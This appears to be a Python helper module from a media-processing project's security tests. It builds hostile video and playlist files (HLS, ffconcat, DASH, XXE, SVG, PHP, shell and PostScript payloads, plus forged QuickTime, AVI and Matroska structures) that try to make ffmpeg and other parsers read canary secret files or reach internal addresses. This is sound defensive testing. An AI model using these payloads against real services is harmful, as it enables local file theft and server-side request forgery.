"""Bytes of hostile media that no tool writes: each maker is given the path to write and the canaries."""

import struct
from collections.abc import Callable
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

from madvision_assets_tests import footage
from madvision_assets_tests.attack.canaries import Canaries
from madvision_assets_tests.claims import box, boxes, rewritten

Make = Callable[[Path, Canaries], Path]
SECONDS = 2.0
# How a film becomes one of another kind; by copying where that is possible.
KINDS: dict[str, tuple[str, ...]] = {
    "mp4": ("-c", "copy"),
    "mov": ("-c", "copy"),
    "mkv": ("-c", "copy"),
    "ts": ("-c", "copy"),
    "flv": ("-c", "copy"),
    "avi": ("-c:v", "mpeg4", "-c:a", "mp3"),
    "webm": ("-c:v", "libvpx", "-deadline", "realtime", "-cpu-used", "8", "-c:a", "libopus"),
    "ogg": ("-c:v", "libtheora", "-c:a", "libvorbis"),
    "mpg": ("-c:v", "mpeg2video", "-c:a", "mp2"),
    "wmv": ("-c:v", "wmv2", "-c:a", "wmav2"),
    "mxf": ("-c:v", "mpeg2video", "-c:a", "pcm_s16le", "-ar", "48000"),
}
# What has several readings in other programs, or is a list of other files in ffmpeg; INSIDE, FILE and SECRET stand for
# an inside address, a file with a film, and one with text.
LISTS: dict[str, str] = {
    "HLS": "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\nfile:FILE\n#EXT-X-ENDLIST\n",
    "HLS of the inside": "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\nINSIDE.ts\n#EXT-X-ENDLIST\n",
    "HLS by concat": "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\nconcat:INSIDE?|file:SECRET\n#EXT-X-ENDLIST\n",
    "HLS by subfile": "#EXTM3U\n#EXTINF:2,\nsubfile,,start,0,end,64,,:SECRET\n#EXT-X-ENDLIST\n",
    "HLS by data": "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\ndata:video/mp2t;base64,R0A=\n#EXT-X-ENDLIST\n",
    "HLS key": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="file:SECRET"\n#EXTINF:2,\nfile:FILE\n#EXT-X-ENDLIST\n',
    "HLS variant": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile:FILE\n",
    "concat": "ffconcat version 1.0\nfile 'FILE'\n",
    "concat of the inside": "ffconcat version 1.0\nfile 'INSIDE.mp4'\n",
    "concat with options": "ffconcat version 1.0\nfile 'FILE'\noption protocol_whitelist file,http,tcp\n",
    "DASH": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" mediaPresentationDuration="PT2S"><Period>'
    '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>FILE</BaseURL></Representation>'
    "</AdaptationSet></Period></MPD>",
    "SDP": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video PORT RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    "RTSP": "rtsptext\nrtsp://127.0.0.1:PORT/a\n",
    "ASX": '<asx version="3.0"><entry><ref href="INSIDE.mp4"/></entry></asx>',
    "IMF": '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>FILE</Id></CompositionPlaylist>',
    "SVG": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://SECRET"/></svg>',
    "SSA": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../a.ttf\n[Events]\n"
    "Dialogue: 0,0:00:00.00,0:00:02.00,,,0,0,0,,{\\fnSECRET}a\n",
    "WebVTT": "WEBVTT\n\nSTYLE\n::cue { background: url(INSIDE) }\n\n00:00.000 --> 00:02.000\n<img src=INSIDE>a\n",
    "AviSynth": 'DirectShowSource("FILE")\n',
    "a graph of filters": "movie=FILE",
    "metadata of ffmpeg": ";FFMETADATA1\ntitle=a\n[STREAM]\nsource=FILE\n",
    "a script": "#!/bin/sh\ncat SECRET\n",
    "PostScript": "%!PS\n(SECRET) (r) file 1000 string readstring pop show showpage\n",
    "PHP": "\xff\xd8\xff\xe0<?php readfile('SECRET'); ?>",
    "XML with an entity": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file://SECRET">]><a>&e;</a>',
}


@cache
def film(kind: str) -> bytes:
    """Two seconds in a container of that kind."""
    with TemporaryDirectory() as name:
        talk = footage.talking(Path(name) / "talk.mp4", SECONDS)
        made = Path(name) / f"made.{kind}"
        footage.ffmpeg("-i", talk, *KINDS[kind], made)
        return made.read_bytes()


def filled(text: str, canaries: Canaries) -> bytes:
    """A text with what its words stand for."""
    words = {"INSIDE": f"{canaries.url}/a", "SECRET": canaries.file("secret.txt"), "FILE": canaries.file("secret.ts")}
    for word, meant in {**words, "PORT": canaries.port}.items():
        text = text.replace(word, str(meant))
    return text.encode("utf-8", "surrogateescape")


def listed(name: str, before: bytes = b"") -> Make:
    """A list of other files, after some bytes."""
    return lambda path, canaries: put(path, before + filled(LISTS[name], canaries))


def put(path: Path, data: bytes) -> Path:
    """Writes it."""
    path.write_bytes(data)
    return path


def with_index(change: Callable[[bytes, bytes, Canaries], bytes], kind: str = "mp4") -> Make:
    """A film whose boxes are changed; ``change`` gets type, payload and the canaries."""
    return lambda path, canaries: put(path, rewritten(film(kind), lambda box, old: change(box, old, canaries)))


def url_entry(canaries: Canaries) -> bytes:
    """Of ``url ``: flags, and the address."""
    return struct.pack(">I", 0) + b"file://" + bytes(canaries.file("secret.mp4")) + b"\0"


def alias_entry(canaries: Canaries) -> bytes:
    """Of ``alis``: an alias record of old Macintoshes with the path as a Unix one (its item 18)."""
    path = bytes(canaries.file("secret.mp4"))
    name = path.rpartition(b"/")[2][:63]
    head = bytes(4) + struct.pack(">HHH", 150, 2, 0) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    head += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16) + struct.pack(">hh", 0, 0) + bytes(16)
    items = b"".join(
        struct.pack(">hH", kind, len(data)) + data + b"\0" * (len(data) % 2) for kind, data in ((2, path), (18, path))
    )
    return struct.pack(">I", 0) + head + items + struct.pack(">hH", -1, 0)


def in_data_information(make_entry: Callable[[Canaries], bytes], kind: bytes) -> Make:
    """Rewrites the ``dref`` inside of each ``dinf``."""

    def change(box_kind: bytes, old: bytes, canaries: Canaries) -> bytes:
        if box_kind != b"minf":
            return old
        parts = [
            box(each, box(b"dref", struct.pack(">II", 0, 1) + box(kind, make_entry(canaries))))
            if each == b"dinf" else box(each, payload)
            for each, payload in boxes(old)
        ]  # fmt: skip
        return b"".join(parts)

    return with_index(change, "mov")


def reference_movie(path: Path, canaries: Canaries) -> Path:
    """A QuickTime file that is nothing but a pointer to another."""
    address = b"file://" + bytes(canaries.file("secret.mp4")) + b"\0"
    pointer = box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(address)) + address)
    return put(path, box(b"ftyp", b"qt  " + bytes(8)) + box(b"moov", box(b"rmra", box(b"rmda", pointer))))


def gab2(path: Path, canaries: Canaries) -> Path:
    """An AVI with subtitles that are a playlist, which ffmpeg opened as one for years."""
    inner = filled(LISTS["HLS by concat"], canaries)
    text = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"a\0" + struct.pack("<HI", 4, len(inner)) + inner
    data = film("avi")
    at = data.index(b"movi")
    header = b"strh" + struct.pack("<I", 56) + b"txts" + bytes(52) + b"strf" + struct.pack("<I", 0)
    stream = b"LIST" + struct.pack("<I", len(header) + 4) + b"strl" + header
    chunk = b"02tx" + struct.pack("<I", len(text)) + text + b"\0" * (len(text) % 2)
    lists_at = at - 8
    return put(path, data[:lists_at] + stream + data[lists_at : at + 4] + chunk + data[at + 4 :])


def damaged(kind: str, seed: int) -> Make:
    """A film with a byte in 500 of another value, from its 16th on."""
    import random

    def make(path: Path, _: Canaries) -> Path:
        chance, data = random.Random(seed), bytearray(film(kind))  # noqa: S311 - the same every time
        for _n in range(max(4, len(data) // 500)):
            data[chance.randrange(16, len(data))] = chance.randrange(256)
        return put(path, bytes(data))

    return make


def cut(kind: str, share: float) -> Make:
    """The begin of a film."""
    return lambda path, _: put(path, film(kind)[: int(len(film(kind)) * share)])


def parts(*made: bytes | str) -> Make:
    """Bytes one after the other; a word is a film of that kind."""
    return lambda path, _: put(path, b"".join(film(each) if isinstance(each, str) else each for each in made))


def numbers(kind: bytes, *values: tuple[int, int]) -> Make:
    """A film in which 32-bit fields of each box of a type are changed, each by its offset in the payload."""

    def change(box_kind: bytes, old: bytes, _: Canaries) -> bytes:
        if box_kind == kind:
            for at, value in values:
                old = old[:at] + value.to_bytes(4, "big") + old[at + 4 :]
        return old

    return with_index(change)


def ebml(*elements: tuple[int, bytes]) -> bytes:
    """Elements of Matroska: ID and data, each with a size of eight bytes."""
    return b"".join(
        number.to_bytes((number.bit_length() + 7) // 8, "big") + (0x01 << 56 | len(data)).to_bytes(8, "big") + data
        for number, data in elements
    )


def matroska(inside: Callable[[Canaries], bytes]) -> Make:
    """A Matroska with one more element at the end of its segment, whose length is left unknown."""

    def make(path: Path, canaries: Canaries) -> Path:
        data = film("mkv")
        at = data.index(b"\x18\x53\x80\x67") + 4
        unknown = b"\x01" + b"\xff" * 7
        return put(path, data[:at] + unknown + data[at + 8 :] + inside(canaries))

    return make
